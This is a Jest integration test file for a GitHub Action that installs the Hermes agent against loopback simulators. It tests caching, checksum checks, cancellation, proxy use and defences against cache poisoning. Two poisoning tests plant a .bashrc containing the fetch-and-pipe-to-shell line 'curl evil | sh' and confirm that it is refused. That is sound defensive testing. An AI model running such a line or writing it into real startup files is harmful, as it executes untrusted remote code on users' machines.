/**
 * Installing Hermes against the runner's services on loopback: upstream's install script played by
 * simulator/install.sh (served by a loopback HTTP server), the Actions cache through the real
 * @actions/cache client (saves) and the action's own listed restore, against a loopback cache service
 * with its blobs in Azurite; HOME in a temporary directory. One Azurite for the whole file.
 *
 * Through dist/, only what needs the whole process: a miss (install, then save, before the turn) and
 * a hit on a fresh runner, an install failure as the step reports it, a cancellation during the
 * install after which no process of the installer survives. The rest in-process: provideHermes
 * (src/install/install.ts) with the machine's HOME given, as the execute step calls it. How an install
 * fact reads in the summary is in install-summary.test.ts.
 */
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as net from 'node:net';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { CacheService } from '../../scripts/cache-service.mjs';
import {
  runAction,
  SIMULATOR_BIN,
  startAction,
  type ActionRun
} from '../../scripts/local-runner.mjs';
import { RESTORE_LIMITS } from '../../src/install/cache.js';
import { provideHermes, type Provided } from '../../src/install/install.js';
import { INSTALL_LIMITS, type InstallIo } from '../../src/install/job.js';
import {
  parseInstall,
  PINNED_HERMES_VERSION,
  type InstallSettings
} from '../../src/config/install.js';
import {
  argsOf,
  installInputs,
  layoutOf,
  machine,
  newSystem,
  saveUnder,
  SIMULATOR,
  STAND_IN,
  STAND_IN_SHA,
  startWorld,
  VERSION_LINE,
  wipeHome,
  type Machine,
  type World
} from '../helpers/install-world.js';
import { alive, runnerSignals } from '../helpers/processes.js';
import { until } from '../helpers/until.js';
import { setProcessEnv } from '../helpers/process-env.js';
import { must } from '../helpers/must.js';
import { NONE_WHERE_UNISOLATED, OPEN_WHERE_UNFENCED } from '../helpers/machine-tools.js';

const V = PINNED_HERMES_VERSION.replace(/\./g, '\\.');

let world: World;
let base = '';

beforeAll(async () => {
  world = await startWorld();
  base = world.base;
}, 60_000);

afterAll(async () => {
  await world?.stop();
});

beforeEach(() => world.cache.reset());

const callsOf = (from: number): string[] => world.cache.calls.slice(from).map(c => c.method);

interface StepOptions {
  inputs?: Record<string, string>;
  env?: Record<string, string>;
}

function stepOptions(m: Machine, { inputs = {}, env = {} }: StepOptions = {}) {
  return {
    inputs: {
      query: 'Check the build',
      'upload-artifact': 'false',
      ...OPEN_WHERE_UNFENCED,
      ...NONE_WHERE_UNISOLATED,
      ...installInputs(world, inputs)
    },
    env: {
      HOME: m.home,
      PATH: [m.system, '/usr/bin', '/bin'].join(path.delimiter),
      HERMES_STANDIN_SIMULATOR: SIMULATOR,
      HERMES_STANDIN_LOG: m.log,
      ...world.cache.env(),
      ...env
    },
    simulator: false
  };
}

const step = (m: Machine, options: StepOptions = {}): Promise<ActionRun> =>
  runAction(stepOptions(m, options));

const annotations = (r: ActionRun, kind: string): string[] =>
  r.annotations.filter(a => a.command === kind).map(a => a.message);
/** The summary's Install row. */
const installRow = (r: ActionRun): string | undefined =>
  r.summary.split('\n').find(l => l.startsWith('| Install |'));

describe('through dist/', () => {
  describe('install: auto (the default), hermes not on PATH', () => {
    test('miss → install → save before the turn; a fresh runner: a hit, no download, the turn runs', async () => {
      const m = machine();
      const asked = world.downloads.length;
      const first = await step(m);
      expect(first.exitCode).toBe(0);
      expect(first.outputs.outcome).toBe('success');
      expect(first.outputs.agent).toBe(VERSION_LINE);
      expect(first.annotations).toEqual([]);
      expect(world.downloads.slice(asked)).toEqual(['/install.sh']);
      expect(callsOf(0)).toEqual([
        'GetCacheEntryDownloadURL',
        'CreateCacheEntry',
        'FinalizeCacheEntryUpload'
      ]);
      // One exact key: no restore keys asked for, no run id in it.
      const layout = layoutOf(world, m);
      expect(must(world.cache.calls[0]).body).toMatchObject({
        key: layout.cacheKey,
        restore_keys: []
      });
      expect(world.cache.finalized.at(-1)!.key).toBe(layout.cacheKey);
      expect(layout.cacheKey).toMatch(
        new RegExp(`^hermes-agent-${V}-linux-x64-noimage-noversion-r2-`)
      );
      // Saved before Hermes ran: the log says so before the turn's first line.
      const saved = first.log.indexOf(`Saved to the Actions cache as ${layout.cacheKey}`);
      expect(saved).toBeGreaterThan(-1);
      expect(saved).toBeLessThan(first.log.indexOf('is ready (installed)'));
      const bin = path.join(m.home, '.hermes', 'hermes-action', 'bin');
      expect(first.paths).toEqual([bin]);
      expect(fs.readdirSync(bin)).toEqual(['hermes']);
      expect(installRow(first)).toMatch(
        /<code>v0\\\.23\\\.4<\/code> · installed by the install script · /
      );
      expect(installRow(first)).not.toMatch(/not checksum-verified/);
      expect(first.log).toContain(`The install script's SHA-256: ${STAND_IN_SHA}`);
      expect(first.log).toContain('✓ Installed hermes command');
      expect(first.log).not.toContain('\u001b[');
      // Writable by the runner user alone, readable and runnable by others.
      const shim = path.join(layout.installDir, '.hermes', 'bin', 'hermes');
      expect(fs.statSync(shim).mode & 0o777).toBe(0o755);
      expect(fs.statSync(layout.storeDir).mode & 0o777).toBe(0o755);

      wipeHome(m);
      const second = await step(m);
      expect(second.outputs.outcome).toBe('success');
      expect(second.outputs.agent).toBe(VERSION_LINE);
      expect(second.annotations).toEqual([]);
      expect(world.downloads.slice(asked)).toEqual(['/install.sh']);
      expect(callsOf(3)).toEqual(['GetCacheEntryDownloadURL']);
      expect(installRow(second)).toMatch(
        /<code>v0\\\.23\\\.4<\/code> · restored from the Actions cache · /
      );
      // The cache carried what a run needs and nothing of the user's state.
      expect(fs.existsSync(path.join(m.home, '.local', 'bin', 'hermes'))).toBe(true);
      expect(fs.existsSync(path.join(m.home, '.hermes', 'installs'))).toBe(true);
      for (const state of ['config.yaml', 'logs', 'sessions'])
        expect(fs.existsSync(path.join(m.home, '.hermes', state))).toBe(false);
    }, 120_000);
  });

  describe('install failures are clear', () => {
    test('a failing installer: not_found with its last lines; nothing cached', async () => {
      const m = machine();
      const r = await step(m, { env: { HERMES_STANDIN_FAIL: '1' } });
      expect(r.exitCode).toBe(1);
      expect(r.outputs.outcome).toBe('not_found');
      const dir = `${m.home}/.hermes/hermes-action/hermes-agent`;
      expect(annotations(r, 'error')).toEqual([
        `Installing Hermes ${PINNED_HERMES_VERSION} from ${base}/install.sh failed: the installer exited with code 1. Its last lines:\n` +
          `→ Cloning https://github.com/NousResearch/hermes-agent.git (${PINNED_HERMES_VERSION}) into ${dir}\n` +
          `fatal: Remote branch ${PINNED_HERMES_VERSION} not found in upstream origin\n` +
          '✗ git clone failed; no checkout published'
      ]);
      expect(callsOf(0)).toEqual(['GetCacheEntryDownloadURL']);
      expect(installRow(r)).toMatch(/\*\*install failed\*\* after /);
    }, 60_000);

    // A script that hangs past its limit (ignoring SIGTERM) is in install-group.test.ts, in-process.
    test('cancelled during the install: no process of the installer survives', async () => {
      const m = machine();
      const pids = path.join(m.root, 'pids');
      const started = startAction(
        stepOptions(m, { env: { HERMES_STANDIN_HANG: 'term', HERMES_STANDIN_PIDS: pids } })
      );
      await until('the installer started', () => fs.existsSync(pids));
      started.child.kill('SIGINT');
      const r = await started.done;
      expect(r.outputs.outcome).toBe('interrupted');
      expect(annotations(r, 'error')[0]).toBe(
        'The job was cancelled while Hermes was installed, before Hermes started'
      );
      for (const pid of fs.readFileSync(pids, 'utf8').trim().split(' ').map(Number))
        expect(alive(pid)).toBe(false);
    }, 60_000);
  });
});

/** What puts back process.env's variables a test set, latest first. */
const restorers: (() => void)[] = [];
let workspace = '';

/** Sets (undefined: deletes) process.env variables until restoreEnv(): the cache client reads process.env. */
function setEnv(vars: Record<string, string | undefined>): void {
  restorers.push(setProcessEnv(vars));
}
function restoreEnv(): void {
  for (const restore of restorers.splice(0).reverse()) restore();
}

beforeAll(() => {
  workspace = machine().root;
});

/** For the in-process tests: what a runner gives a step, read by @actions/cache itself. */
function stepEnv(): void {
  setEnv({ ...world.cache.env(), RUNNER_TEMP: workspace, GITHUB_WORKSPACE: workspace });
}

interface Provision {
  provided: Provided;
  /** The action's own lines, the installer's lines, the warnings, the PATH additions. */
  info: string[];
  output: string[];
  warnings: string[];
  paths: string[];
  /** What was written to stdout meanwhile (the cache client's own lines). */
  stdout: string;
}

interface ProvideOptions {
  inputs?: Record<string, string>;
  env?: Record<string, string>;
  limits?: typeof INSTALL_LIMITS;
  /** false: the step has no cache service (nothing looked up, nothing saved), for tests of the installer alone. */
  cache?: boolean;
  /** Settings the inputs cannot give: what a pin holds (its commit, the version it must print). */
  pin?: Pick<InstallSettings, 'commit' | 'expectedVersion'>;
}

/** provideHermes as the execute step calls it, for a step on machine m with these inputs. */
async function provide(
  m: Machine,
  { inputs = {}, env = {}, limits = INSTALL_LIMITS, cache = true, pin }: ProvideOptions = {}
): Promise<Provision> {
  if (!cache) setEnv({ ACTIONS_RESULTS_URL: undefined });
  const given = installInputs(world, inputs);
  const install = { ...parseInstall(name => given[name] ?? ''), ...pin };
  const r: Omit<Provision, 'provided'> = {
    info: [],
    output: [],
    warnings: [],
    paths: [],
    stdout: ''
  };
  const io: InstallIo = {
    info: line => r.info.push(line),
    output: line => r.output.push(line),
    warning: message => r.warnings.push(message),
    group: (_title, fn) => fn(),
    addPath: dir => r.paths.push(dir)
  };
  const write = process.stdout.write;
  process.stdout.write = ((chunk: unknown) => {
    r.stdout += String(chunk);
    return true;
  }) as typeof process.stdout.write;
  try {
    const provided = await provideHermes(
      { hermesPath: 'hermes', install },
      io,
      runnerSignals(),
      {
        ...process.env,
        GITHUB_EVENT_NAME: 'workflow_dispatch',
        INPUT_QUERY: 'Check the build',
        HOME: m.home,
        PATH: [m.system, '/usr/bin', '/bin'].join(path.delimiter),
        HERMES_STANDIN_SIMULATOR: SIMULATOR,
        HERMES_STANDIN_LOG: m.log,
        ...env
      },
      limits,
      { home: m.home, platform: process.platform, arch: process.arch }
    );
    return { ...r, provided };
  } finally {
    process.stdout.write = write;
  }
}

describe('in-process: provideHermes', () => {
  beforeEach(stepEnv);
  afterEach(restoreEnv);

  describe('the installer, as the action runs it', () => {
    test('today’s flags, read from the script: no prompts, the tag, the directories, no browser tools', async () => {
      const m = machine();
      const r = await provide(m);
      expect(r.provided.install?.source).toBe('installer');
      const home = path.join(m.home, '.hermes');
      expect(argsOf(m)).toEqual([
        `args: --non-interactive --branch ${PINNED_HERMES_VERSION} --dir ${home}/hermes-action/hermes-agent --hermes-home ${home} --skip-browser --skip-computer-use`
      ]);
      expect(fs.readdirSync(path.join(home, 'tools')).sort()).toEqual(['uv-0.12.3-linux-x64']);
      const env = fs
        .readFileSync(m.log, 'utf8')
        .split('\n')
        .find(l => l.startsWith('env: '))!;
      const names = env
        .replace(/^env: /, '')
        .trim()
        .split(' ');
      expect(names).toEqual(expect.arrayContaining(['HOME', 'PATH', 'UV_PYTHON_INSTALL_DIR']));
      for (const secret of [
        'ACTIONS_RUNTIME_TOKEN',
        'ACTIONS_RESULTS_URL',
        'ACTIONS_CACHE_SERVICE_V2'
      ])
        expect(names).not.toContain(secret);
      expect(names.filter(n => n.startsWith('INPUT_'))).toEqual([]);
      // The installer's lines reach the log without its colours.
      expect(r.output).toContain(`✓ Installed hermes command → ${m.home}/.local/bin/hermes`);
      expect(r.output.join('\n')).not.toContain('\u001b[');
    });

    test('install-browser: true passes no skip flags, and the tools are installed', async () => {
      const m = machine();
      const r = await provide(m, { inputs: { 'install-browser': 'true' }, cache: false });
      expect(r.provided.install?.source).toBe('installer');
      expect(argsOf(m)[0]).not.toMatch(/--skip-browser|--skip-computer-use/);
      expect(fs.readdirSync(path.join(m.home, '.hermes', 'tools')).sort()).toEqual([
        'agent-browser-0.9.1-linux-x64',
        'cua-driver-0.20.0-linux-x64',
        'uv-0.12.3-linux-x64'
      ]);
    });

    test('without a pinned or given SHA-256 the script runs, unverified, with one warning', async () => {
      const m = machine();
      const r = await provide(m, {
        inputs: { 'installer-sha256': '', 'hermes-version': 'v0.23.3' },
        cache: false
      });
      expect(r.provided.executable).toBeDefined();
      expect(r.provided.install).toMatchObject({
        ref: 'v0.23.3',
        source: 'installer',
        unverified: true
      });
      expect(r.warnings).toEqual([
        'The install script of Hermes v0.23.3 is not checksum-verified: no SHA-256 is pinned for it; set installer-sha256 to check it.'
      ]);
    });
  });

  describe('a cache nobody can poison', () => {
    test('a newer entry under another key (the old prefix) is never restored', async () => {
      const m = machine();
      const layout = layoutOf(world, m);
      expect((await provide(m)).provided.install?.source).toBe('installer');
      // The entry is moved under a key that starts with the real one: a working install for m,
      // restored as a hit if the look-up matched by prefix (restore keys) or took another key.
      const entry = world.cache.finalized.at(-1)!;
      expect(entry.key).toBe(layout.cacheKey);
      entry.key = `${layout.cacheKey}-999`;
      wipeHome(m);
      const asked = world.downloads.length;
      const r = await provide(m);
      expect(r.provided.install?.source).toBe('installer');
      expect(r.warnings).toEqual([]);
      expect(r.info.filter(l => l.startsWith('Found '))).toEqual([]);
      expect(world.downloads.length).toBe(asked + 1);
      expect(
        world.cache.calls.find(c => c.method === 'GetCacheEntryDownloadURL')?.body
      ).toMatchObject({ key: layout.cacheKey, restore_keys: [] });
    });

    test('an entry under the exact key holding a path outside the cached folders is refused, unextracted', async () => {
      const m = machine();
      const layout = layoutOf(world, m);
      const outside = path.join(m.home, '.bashrc');
      const src = path.join(m.root, 'poison');
      fs.mkdirSync(src);
      fs.writeFileSync(path.join(src, '.bashrc'), 'curl evil | sh\n');
      // Written as @actions/cache writes (-P), but with an absolute name outside every cached folder.
      await saveUnder(world, m, layout, src, [path.join(src, '.bashrc')]);
      const r = await provide(m);
      expect(r.provided.executable).toBeDefined();
      expect(fs.existsSync(outside)).toBe(false);
      expect(r.warnings).toEqual([
        expect.stringMatching(
          new RegExp(
            `^The cache entry ${layout.cacheKey} was not restored: ${outside} lies outside the cached folders\\. Installing Hermes afresh`
          )
        )
      ]);
      expect(r.provided.install?.source).toBe('installer');
      // The key is taken: the fresh install is not saved over it (entries are immutable).
      expect(r.info).toContain(
        `Not saved: the Actions cache already holds an entry ${layout.cacheKey}.`
      );
    });

    test('a bad entry after good ones stops the restore: nothing of the archive is kept, nothing staged is left', async () => {
      const m = machine();
      const layout = layoutOf(world, m);
      const src = path.join(m.root, 'poison');
      fs.mkdirSync(path.join(src, '.hermes', 'tools'), { recursive: true });
      fs.writeFileSync(path.join(src, '.hermes', 'tools', 'planted'), 'from the archive\n');
      fs.writeFileSync(path.join(src, '.bashrc'), 'curl evil | sh\n');
      // The good entries first: they reach tar, into staging, before the bad one is seen.
      await saveUnder(world, m, layout, src, [
        path.join(src, '.hermes', 'tools'),
        path.join(src, '.bashrc')
      ]);
      const r = await provide(m);
      expect(r.provided.executable).toBeDefined();
      expect(r.warnings).toEqual([
        expect.stringContaining(`${path.join(m.home, '.bashrc')} lies outside the cached folders`)
      ]);
      expect(fs.existsSync(path.join(m.home, '.bashrc'))).toBe(false);
      expect(fs.existsSync(path.join(layout.storeDir, 'planted'))).toBe(false);
      const left = [path.join(m.home, '.hermes'), path.join(m.home, '.local', 'bin')].flatMap(d =>
        fs.readdirSync(d).filter(name => name.includes('.restore-'))
      );
      expect(left).toEqual([]);
      expect(r.provided.install?.source).toBe('installer');
    });

    test('a hit under umask 077: the tree still readable and runnable by all, writable by its owner alone', async () => {
      const m = machine();
      expect((await provide(m)).provided.install?.source).toBe('installer');
      wipeHome(m);
      // The restore (and tar) run under this umask: the modes must come from the restore, not from it.
      const before = process.umask(0o077);
      let hit: Provision;
      try {
        hit = await provide(m);
      } finally {
        process.umask(before);
      }
      expect(hit.provided.install?.source).toBe('cache');
      expect(hit.provided.version).toBe(VERSION_LINE);
      expect(hit.info).toEqual(
        expect.arrayContaining([
          expect.stringMatching(
            /^Restored \d+ entries \(\d+\.\d MB downloaded\), all inside the cached folders$/
          )
        ])
      );
      const layout = layoutOf(world, m);
      const modes = new Set<string>();
      for (const folder of layout.cachePaths.filter(p => fs.existsSync(p))) {
        const all = fs.statSync(folder).isDirectory()
          ? fs
              .readdirSync(folder, { recursive: true, withFileTypes: true })
              .map(e => path.join(e.parentPath, e.name))
          : [];
        for (const file of [folder, ...all]) {
          const stat = fs.lstatSync(file);
          if (stat.isSymbolicLink()) continue;
          modes.add(`${stat.isDirectory() ? 'd' : 'f'}${(stat.mode & 0o7777).toString(8)}`);
          expect(stat.uid).toBe(process.getuid!());
        }
      }
      expect([...modes].sort()).toEqual(['d755', 'f644', 'f755']);
      // And the directories the action made on the way, and its own link's.
      for (const dir of [
        '.hermes',
        '.hermes/hermes-action',
        '.hermes/hermes-action/bin',
        '.local/bin'
      ])
        expect((fs.statSync(path.join(m.home, dir)).mode & 0o777).toString(8)).toBe('755');
    });

    test('an event a stranger can cause (issue_comment) restores but never saves', async () => {
      const m = machine();
      const r = await provide(m, { env: { GITHUB_EVENT_NAME: 'issue_comment' } });
      expect(r.provided.install?.source).toBe('installer');
      expect(callsOf(0)).toEqual(['GetCacheEntryDownloadURL']);
      expect(r.info).toContain(
        'Not saved to the Actions cache: issue_comment events can be caused by people without write access.'
      );
    });

    test('a restored install that fails its version probe is installed again', async () => {
      const m = machine();
      expect((await provide(m)).provided.install?.source).toBe('installer');
      // The next runner has its system `node` elsewhere: the cached bootstrap Python's link dangles.
      fs.rmSync(m.system, { recursive: true, force: true });
      newSystem(m);
      wipeHome(m);
      const asked = world.downloads.length;
      const repaired = await provide(m);
      expect(repaired.provided.version).toBe(VERSION_LINE);
      expect(repaired.warnings).toEqual([]);
      expect(repaired.info).toEqual(
        expect.arrayContaining([
          expect.stringMatching(
            /^The cached install \(hermes-agent-.*\) does not run \(.*--version` failed: hermes: the PM environment .* is missing/
          )
        ])
      );
      expect(world.downloads.length).toBe(asked + 1);
      expect(repaired.provided.install?.source).toBe('installer');
    });
  });

  describe('install failures are clear', () => {
    test('a checksum mismatch: both hashes named, nothing run', async () => {
      const m = machine();
      const wrong = '0'.repeat(64);
      const r = await provide(m, { inputs: { 'installer-sha256': wrong } });
      expect(r.provided.executable).toBeUndefined();
      expect(r.provided.install).toMatchObject({ ref: PINNED_HERMES_VERSION });
      expect(r.provided.install?.source).toBeUndefined();
      expect(r.provided.failure).toBe(
        `Installing Hermes ${PINNED_HERMES_VERSION} from ${world.base}/install.sh refused: the script's SHA-256 is ${STAND_IN_SHA}, but ${wrong} was expected (installer-sha256, or the pin of ${PINNED_HERMES_VERSION}). Nothing was run.`
      );
      expect(fs.existsSync(m.log)).toBe(false);
    });

    test('a pinned commit: the script runs with --commit, and a Hermes of another version is not_found naming both', async () => {
      const commit = 'c'.repeat(40);
      const m = machine();
      const r = await provide(m, { pin: { commit, expectedVersion: 'v0.23.4' }, cache: false });
      expect(argsOf(m)[0]).toContain(`--commit ${commit} `);
      expect(argsOf(m)[0]).not.toContain('--branch');
      expect(r.provided.executable).toBeUndefined();
      expect(r.provided.failure).toBe(
        `Installing Hermes ${PINNED_HERMES_VERSION} from ${world.base}/install.sh: the installer finished, but \`hermes --version\` prints "${VERSION_LINE}", not the pinned v0.23.4. Nothing was run.`
      );
      // The version the simulator prints: the same pin is ready.
      const ok = await provide(machine(), {
        pin: { commit, expectedVersion: 'v0.21.4' },
        cache: false
      });
      expect(ok.provided.failure).toBeUndefined();
      expect(ok.provided.executable).toBeDefined();
    });

    test('a 404 names the URL', async () => {
      const m = machine();
      const url = `${world.base}/missing/install.sh`;
      const r = await provide(m, { inputs: { 'installer-url': url } });
      expect(r.provided.executable).toBeUndefined();
      expect(r.provided.failure).toBe(
        `Installing Hermes ${PINNED_HERMES_VERSION} from ${url} failed: the install script ${url} answered HTTP 404 Not Found.`
      );
    });

    test('the look-up’s retries by default: 3 tries, 1 s before the second', () => {
      expect(RESTORE_LIMITS).toEqual({ lookupAttempts: 3, lookupBackoffMs: 1000 });
      expect(INSTALL_LIMITS.restore).toBe(RESTORE_LIMITS);
    });

    test('the cache service answers 500: Hermes is installed anyway, with one warning', async () => {
      const down = await CacheService.start(world.azurite);
      down.down = true;
      try {
        setEnv(down.env());
        const m = machine();
        const r = await provide(m, {
          env: down.env(),
          limits: { ...INSTALL_LIMITS, restore: { lookupAttempts: 3, lookupBackoffMs: 1 } }
        });
        expect(r.provided.install?.source).toBe('installer');
        expect(r.provided.executable).toBeDefined();
        expect(r.warnings).toHaveLength(1);
        expect(r.warnings[0]).toMatch(
          /^The Actions cache could not be read \(.*500.*\); installing Hermes without it\.$/
        );
        // Tried three times, then given up: no save is asked of a cache that cannot be read.
        expect(down.calls.map(c => c.method)).toEqual([
          'GetCacheEntryDownloadURL',
          'GetCacheEntryDownloadURL',
          'GetCacheEntryDownloadURL'
        ]);
        // The cache client wrote no annotation of its own.
        expect(r.stdout).not.toMatch(/^::(error|warning)/m);
      } finally {
        await down.stop();
      }
    });
  });

  describe('the download goes through the runner’s proxy', () => {
    test('an installer behind a loopback HTTP proxy: the proxy sees the request', async () => {
      const seen: string[] = [];
      const proxy = http.createServer((req, res) => {
        // An absolute-form GET: the proxy fetches it itself.
        seen.push(`GET ${req.url}`);
        res.writeHead(200).end(STAND_IN);
      });
      proxy.on('connect', (req, client, head) => {
        seen.push(`CONNECT ${req.url}`);
        const upstream = net.connect(world.port, '127.0.0.1', () => {
          client.write('HTTP/1.1 200 Connection Established\r\n\r\n');
          upstream.write(head);
          upstream.pipe(client);
          client.pipe(upstream);
        });
        upstream.on('error', () => client.destroy());
        client.on('error', () => upstream.destroy());
      });
      await new Promise<void>(resolve => proxy.listen(0, '127.0.0.1', resolve));
      const proxyUrl = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
      try {
        // The download reads the proxy from process.env, as @actions/http-client does; no cache here.
        setEnv({ HTTP_PROXY: proxyUrl, HTTPS_PROXY: proxyUrl, ACTIONS_RESULTS_URL: undefined });
        const m = machine();
        // A name @actions/http-client does not bypass (it does for localhost and 127.*), served by the proxy.
        const url = `http://installer.localhost:${world.port}/install.sh`;
        const r = await provide(m, { inputs: { 'installer-url': url } });
        expect(r.provided.install?.source).toBe('installer');
        expect(seen.length).toBeGreaterThan(0);
        expect(seen[0]).toMatch(
          new RegExp(
            `^(CONNECT installer\\.localhost:${world.port}|GET ${url.replace(/\./g, '\\.')})$`
          )
        );
      } finally {
        proxy.closeAllConnections();
        await new Promise<void>(resolve => proxy.close(() => resolve()));
      }
    });
  });

  describe('install: true', () => {
    test('two steps of one job: the second reuses the first’s install', async () => {
      const m = machine();
      const first = await provide(m, { inputs: { install: 'true' }, cache: false });
      expect(first.provided.install?.source).toBe('installer');
      const calls = world.cache.calls.length;
      const asked = world.downloads.length;
      stepEnv(); // this step has the cache service: a reuse asks nothing of it
      const second = await provide(m, { inputs: { install: 'true' } });
      expect(second.provided.install?.source).toBe('reused');
      expect(second.provided.version).toBe(VERSION_LINE);
      expect(second.paths).toEqual(first.paths);
      expect(world.downloads.length).toBe(asked);
      expect(world.cache.calls.length).toBe(calls);
    });

    test('auto with Hermes already on PATH: nothing is installed, nothing asked of the cache', async () => {
      setEnv({ PATH: [SIMULATOR_BIN, process.env.PATH].join(path.delimiter) });
      const m = machine();
      const asked = world.downloads.length;
      const r = await provide(m);
      expect(r.provided).toEqual({ executable: path.join(SIMULATOR_BIN, 'hermes') });
      expect(world.downloads.length).toBe(asked);
      expect(world.cache.calls.length).toBe(0);
      expect(r.paths).toEqual([]);
    });
  });
});
